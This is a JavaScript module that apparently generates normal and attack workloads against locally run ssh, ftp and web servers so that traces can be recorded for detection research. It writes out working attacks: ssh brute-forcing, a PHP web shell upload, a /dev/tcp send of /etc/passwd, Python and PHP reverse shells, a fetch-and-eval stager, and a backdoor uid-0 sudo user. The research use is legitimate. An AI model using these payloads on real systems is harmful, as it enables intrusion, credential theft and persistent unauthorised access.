// What the traced servers of sequence-server-traces.mjs are made to do: a varied normal
// workload per server (seeded), and six attacks, each through the server's own child
// processes (sshd's and vsftpd's per-connection children, the web server's CGI children).
import { spawn } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { PASSWORD, USER } from './servers.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const PY = '/usr/bin/python3';

/** A seeded random source (same LCG as the other sequence benches). */
export function seeded(seed) {
  let s = seed >>> 0;
  const random = () => {
    s = (Math.imul(s, 1103515245) + 12345) >>> 0;
    return s / 2 ** 32;
  };
  const int = (n) => Math.floor(random() * n);
  return { random, int, pick: (xs) => xs[int(xs.length)] };
}

/** Runs a client command; resolves with its exit code and stdout (never rejects). */
function exec(cmd, args, { input, timeout = 60_000 } = {}) {
  return new Promise((resolve) => {
    const child = spawn(cmd, args, { stdio: ['pipe', 'pipe', 'ignore'], timeout });
    const out = [];
    child.stdout.on('data', (d) => out.push(d));
    child.stdin.on('error', () => {});
    child.stdin.end(input ?? '');
    child.once('error', () => resolve({ code: -1, stdout: '' }));
    child.once('close', (code) => resolve({ code, stdout: Buffer.concat(out).toString() }));
  });
}

/** `limit` workers over `jobs` (functions returning promises). */
async function pool(jobs, limit) {
  let next = 0;
  const worker = async () => {
    while (next < jobs.length) await jobs[next++]();
  };
  await Promise.all(Array.from({ length: limit }, worker));
}

// ---- ssh --------------------------------------------------------------------------------
const sshOptions = (port) => [
  ...['-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null', '-o', 'LogLevel=ERROR'],
  ...['-o', 'PubkeyAuthentication=no', '-o', 'PreferredAuthentications=password'],
  ...['-o', 'NumberOfPasswordPrompts=1', '-o', 'ConnectTimeout=20'],
  ...['-p', String(port)],
];
const ssh = (port, password, command, input) =>
  exec('sshpass', ['-p', password, 'ssh', ...sshOptions(port), `${USER}@127.0.0.1`, command], { input });

const SHELL_COMMANDS = (r) => [
  'ls -la',
  'ls docs',
  `cat file${r.int(6)}.txt | wc -l`,
  'uname -a',
  'id',
  'df -h .',
  'ps aux | head -5',
  'uptime',
  `grep -c data file${r.int(6)}.txt`,
  'tar czf backup.tgz docs && ls -l backup.tgz',
  'sha256sum file*.txt',
  `${PY} -c "print(2**${r.int(200)})"`,
  'date -u',
  `echo note ${r.int(1000)} > note${r.int(4)}.txt`,
  "find . -name '*.txt'",
  `sort -r file${r.int(6)}.txt | head -3`,
  'du -s .',
  'env | sort | head -3',
  `head -n ${1 + r.int(20)} file${r.int(6)}.txt`,
  `cp file${r.int(6)}.txt copy.txt && rm copy.txt`,
];

/** Logins with varied commands, scp and sftp transfers, a wrong password now and then. */
export async function sshNormal(port, r, sessions, localDir) {
  for (let i = 0; i < sessions; i++) {
    const kind = r.int(10);
    if (kind < 6) {
      const cmds = Array.from({ length: 1 + r.int(3) }, () => r.pick(SHELL_COMMANDS(r)));
      await ssh(port, PASSWORD, cmds.join('; '));
    } else if (kind === 6) {
      const script = Array.from({ length: 2 + r.int(3) }, () => r.pick(SHELL_COMMANDS(r))).join('\n');
      await ssh(port, PASSWORD, 'bash -s', `${script}\n`);
    } else if (kind === 7) {
      const local = join(localDir, `up${i}.txt`);
      writeFileSync(local, `upload ${i}\n`.repeat(1 + r.int(500)));
      const dest = `${USER}@127.0.0.1:${r.pick(['', 'docs/'])}up${r.int(5)}.txt`;
      await exec('sshpass', [
        '-p',
        PASSWORD,
        'scp',
        ...sshOptions(port).map((a) => (a === '-p' ? '-P' : a)),
        local,
        dest,
      ]);
    } else if (kind === 8) {
      const batch = join(localDir, `batch${i}.txt`);
      const ops = [`get file${r.int(6)}.txt ${join(localDir, 'got.txt')}`, 'ls -l', 'pwd', 'cd docs', 'ls'];
      writeFileSync(batch, `${Array.from({ length: 2 + r.int(3) }, () => r.pick(ops)).join('\n')}\n`);
      const args = sshOptions(port).map((a) => (a === '-p' ? '-P' : a));
      await exec('sshpass', [
        '-p',
        PASSWORD,
        'sftp',
        '-o',
        'BatchMode=no',
        ...args,
        '-b',
        batch,
        `${USER}@127.0.0.1`,
      ]);
    } else {
      // A mistyped password, then the right one.
      await ssh(port, `${PASSWORD}x`, 'id');
      await ssh(port, PASSWORD, r.pick(SHELL_COMMANDS(r)));
    }
  }
}

const GUESSES = [
  '123456',
  'password',
  'qwerty',
  'letmein',
  'admin',
  'welcome',
  'monkey',
  'dragon',
  'alice',
  'root',
];

/** Hydra-like: many wrong passwords, several connections at once. */
export async function sshBrute(port, r, attempts, parallel = 4) {
  const jobs = Array.from({ length: attempts }, () => {
    const guess = r.pick(GUESSES) + r.int(100);
    return () => ssh(port, guess, 'id');
  });
  await pool(jobs, parallel);
}

// ---- ftp --------------------------------------------------------------------------------
export const ftpNormal = (port, seed, sessions) =>
  exec(
    PY,
    [join(here, 'ftp_client.py'), 'normal', String(port), USER, PASSWORD, String(seed), String(sessions)],
    {
      timeout: 120_000,
    },
  );
export const ftpBrute = (port, seed, attempts, parallel = 4) =>
  exec(
    PY,
    [
      join(here, 'ftp_client.py'),
      'brute',
      String(port),
      USER,
      String(seed),
      String(attempts),
      String(parallel),
    ],
    {
      timeout: 120_000,
    },
  );

// ---- web --------------------------------------------------------------------------------
async function http(port, path, init) {
  try {
    const res = await fetch(`http://127.0.0.1:${port}${path}`, {
      ...init,
      signal: AbortSignal.timeout(60_000),
    });
    return { status: res.status, text: await res.text() };
  } catch (error) {
    return { status: 0, text: String(error) };
  }
}
const form = (fields) => ({ method: 'POST', body: new URLSearchParams(fields) });
function upload(port, name, content) {
  const body = new FormData();
  body.append('file', new Blob([content]), name);
  return http(port, '/cgi-bin/upload.php', { method: 'POST', body });
}

const WORDS = ['lamp', 'chair', 'desk', 'mug', 'clock', 'x', '1', 'ke', 'zzz'];
const REQUESTS = [
  (r) => ['/', '/index.html', '/about.html', '/style.css'][r.int(4)],
  (r) => `/cgi-bin/index.php?page=${r.int(7)}`,
  (r) => `/cgi-bin/view.php?id=${r.int(70)}`, // ids over 59: 404
  (r) => `/cgi-bin/search.php?q=${r.pick(WORDS)}`,
  (r) => `/cgi-bin/lookup.php?host=${r.pick(['localhost', '127.0.0.1', 'ip6-localhost', 'nohost.invalid'])}`,
  () => '/cgi-bin/report.php',
  () => '/cgi-bin/guestbook.php',
  (r) => ['guestbook', r.pick(['ann', 'ben', 'cy']), `hello ${r.int(1000)}`],
  (r) => ['login', r.pick(['bob', 'carol']), r.int(4) === 0 ? 'wrong' : null],
  (r) => ['upload', `up${r.int(8)}.txt`, `file body ${r.random()}\n`.repeat(1 + r.int(300))],
  (r) => `/cgi-bin/download.php?name=up${r.int(10)}.txt`, // some never uploaded: 404
  (r) => `/cgi-bin/files/up${r.int(8)}.txt`,
  (r) => r.pick(['/missing.html', '/cgi-bin/nope.php', '/images/logo.png']),
];

/** A varied mix of page views, searches, posts, logins, uploads and downloads (some 404). */
export async function webNormal(port, r, requests, parallel = 2) {
  const jobs = Array.from({ length: requests }, () => {
    const what = r.pick(REQUESTS)(r);
    if (typeof what === 'string') return () => http(port, what);
    const [kind, a, b] = what;
    if (kind === 'guestbook') return () => http(port, '/cgi-bin/guestbook.php', form({ name: a, msg: b }));
    if (kind === 'login')
      return () => http(port, '/cgi-bin/login.php', form({ user: a, pass: b ?? `${a}pw` }));
    return () => upload(port, a, b);
  });
  await pool(jobs, parallel);
}

/** A listener on 127.0.0.1 for connect-back payloads; `session(socket)` drives each one. */
async function listener(session) {
  const server = createServer((socket) => {
    socket.on('error', () => {});
    session(socket).finally(() => socket.end());
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { port: server.address().port, close: () => server.close() };
}
const sleep = (ms) => new Promise((res) => setTimeout(res, ms));
const inject = (port, payload) =>
  http(port, `/cgi-bin/lookup.php?host=${encodeURIComponent(`localhost; ${payload}`)}`);

const RECON = [
  'id',
  'uname -a',
  'cat /etc/passwd',
  'ls -la /',
  'ps aux',
  'pwd',
  'ls -la /home',
  'cat /etc/hostname',
];

/** Uploads a PHP web shell through the upload form, then runs commands through it. */
export async function webShell(port, r, run) {
  const name = `${r.pick(['img', 'avatar', 'doc'])}${run}.php`;
  await upload(port, name, '<?php echo "<pre>"; system($_GET["c"] ?? "id"); echo "</pre>";\n');
  const back = await listener(async (s) => {
    s.resume();
    await new Promise((res) => s.once('end', res));
  });
  const commands = [
    ...RECON.filter(() => r.random() < 0.7),
    r.int(2) === 0
      ? `bash -c 'cat /etc/passwd > /dev/tcp/127.0.0.1/${back.port}'`
      : `php -r '$s=fsockopen("127.0.0.1",${back.port});fwrite($s,php_uname()."\\n".file_get_contents("/etc/passwd"));'`,
  ];
  for (const c of commands) await http(port, `/cgi-bin/files/${name}?c=${encodeURIComponent(c)}`);
  back.close();
}

/** Command injection → a reverse shell: connect back, dup2 the socket onto 0-2, exec /bin/sh. */
export async function reverseShell(port, r, run) {
  const back = await listener(async (s) => {
    s.resume();
    for (const c of [...RECON.filter(() => r.random() < 0.7), 'exit']) {
      s.write(`${c}\n`);
      await sleep(60);
    }
  });
  const payload =
    run % 2 === 0
      ? `${PY} -c 'import socket,os;s=socket.create_connection(("127.0.0.1",${back.port}));[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh"])'`
      : `php -r '$s=fsockopen("127.0.0.1",${back.port});$p=proc_open("/bin/sh",[0=>$s,1=>$s,2=>$s],$x);proc_close($p);'`;
  await inject(port, payload);
  back.close();
}

/** Reads one `LENGTH\n` + body answer of the stage. */
function answer(socket) {
  return new Promise((resolve) => {
    let buf = Buffer.alloc(0);
    const onData = (d) => {
      buf = Buffer.concat([buf, d]);
      const nl = buf.indexOf(10);
      if (nl < 0) return;
      const n = Number(buf.subarray(0, nl).toString());
      if (buf.length - nl - 1 < n) return;
      socket.off('data', onData);
      resolve(buf.subarray(nl + 1, nl + 1 + n).toString());
    };
    socket.on('data', onData);
    socket.once('close', () => resolve(''));
  });
}

/** Command injection → a stager that fetches a second stage and runs it in-process (PHP or Python). */
export async function stager(port, r, run, readStage) {
  const php = run % 2 === 0;
  const stage = Buffer.from(php ? readStage('stage.php').replace(/^<\?php/, '') : readStage('stage.py'));
  const back = await listener(async (s) => {
    const header = Buffer.alloc(4);
    header.writeUInt32BE(stage.length);
    s.write(Buffer.concat([header, stage]));
    const commands = [
      'getuid',
      'sysinfo',
      'pwd',
      'ls /etc',
      'cat /etc/passwd',
      'ps',
      'download /etc/hostname',
    ];
    for (const c of [...commands.filter(() => r.random() < 0.8), `shell ${r.pick(RECON)}`]) {
      s.write(`${c}\n`);
      await answer(s);
    }
    s.write('exit\n');
  });
  const payload = php
    ? `php -r '$s=fsockopen("127.0.0.1",${back.port});$n=unpack("N",fread($s,4))[1];$c="";while(strlen($c)<$n)$c.=fread($s,$n-strlen($c));eval($c);'`
    : `${PY} -c 'import socket,struct;s=socket.create_connection(("127.0.0.1",${back.port}));n=struct.unpack(">I",s.recv(4,socket.MSG_WAITALL))[0];exec(s.recv(n,socket.MSG_WAITALL))'`;
  await inject(port, payload);
  back.close();
}

/** Command injection → a new uid-0 user with a password and sudo rights (in a copy of /etc:
 *  useradd/usermod --prefix, so the host's files are never changed). */
export async function addUser(port, r, run, victim) {
  const user = `${r.pick(['toor', 'sysadm', 'backup2', 'svc'])}${run}`;
  const steps = [
    `/usr/sbin/useradd --prefix ${victim} -m -s /bin/bash -o -u 0 ${user}`,
    `/usr/sbin/usermod --prefix ${victim} -p $(openssl passwd -6 ${r.pick(GUESSES)}) -aG sudo ${user}`,
    `echo '${user} ALL=(ALL) NOPASSWD:ALL' >> ${victim}/etc/sudoers`,
    `grep ${user} ${victim}/etc/passwd`,
  ];
  if (r.int(2) === 0) steps.unshift('id');
  await inject(port, steps.join('; '));
}
